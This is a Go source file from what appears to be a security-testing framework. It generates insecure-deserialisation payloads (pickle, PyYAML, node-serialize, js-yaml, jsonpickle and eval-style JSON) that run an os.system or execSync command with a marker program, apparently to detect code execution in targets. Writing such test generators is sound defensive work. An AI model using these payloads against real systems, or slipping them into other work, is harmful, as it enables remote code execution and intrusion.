package attack

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"

	"github.com/mcpsf/mcpsf"
)

func deserialisation() Class {
	return Class{
		ID:    "deserialisation",
		Title: "Data is loaded in a way that runs what is in it",
		Yield: kinds{"data": 70, "json": 45, "code": 15, "text": 15, "template": 10, "unknown": 20, "query": 5, "name": 5}.
			about(prose(80), "pickle", "yaml", "serial", "state", "snapshot", "session", "base64", "payload", "blob", "cookie", "saved", "config"),
		Payloads: serialPayloads,
		Balanced: 5,
	}
}

func serialPayloads(w *World, _ Place) []Payload {
	pickle := func(program string) string {
		// GLOBAL os.system, MARK, STRING, TUPLE, REDUCE, STOP.
		return fmt.Sprintf("cos\nsystem\n(S'%s'\ntR.", program)
	}
	inBase64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	var all []Payload
	for i, f := range []struct {
		why  string
		make func(program string) string
	}{
		{"pickle in base64", func(m string) string { return inBase64(pickle(m)) }},
		{"YAML that calls a function of Python", func(m string) string { return fmt.Sprintf("!!python/object/apply:os.system [%q]", m) }},
		{"JSON with a function of JavaScript", func(m string) string {
			return fill(`{"x":"_$$ND_FUNC$$_function(){return `+scriptRuns+`}()"}`, "", m)
		}},
		{"JSON that is evaluated", func(m string) string { return fill(`{"x":`+scriptRuns+`}`, "", m) }},
		{"JSON that is evaluated by Python", func(m string) string { return fill(`{"x":`+pythonRuns+`}`, "", m) }},
		{"JSON that calls a function of Python", func(m string) string {
			return fill(`{"py/reduce":[{"py/function":"os.system"},{"py/tuple":["§"]}]}`, "", m)
		}},
		{"pickle in hexadecimal", func(m string) string { return hex.EncodeToString([]byte(pickle(m))) }},
		{"pickle", pickle},
		{"YAML with a function of JavaScript", func(m string) string {
			return fill("x: !!js/function >\n  function(){return process.mainModule.require('child_process').execSync('§')}()", "", m)
		}},
		{"YAML that makes an object of Python", func(m string) string { return fmt.Sprintf("!!python/object/new:os.system [%q]", m) }},
		{"YAML in base64", func(m string) string { return inBase64(fmt.Sprintf("!!python/object/apply:os.system [%q]", m)) }},
		{"pickle in base64 for URLs", func(m string) string { return base64.URLEncoding.EncodeToString([]byte(pickle(m))) }},
	} {
		program := w.Program(serialPrograms + i)
		all = append(all, Payload{Value: f.make(program), Sign: mcpsf.SignExec, Marker: program, Why: f.why})
	}
	return all
}
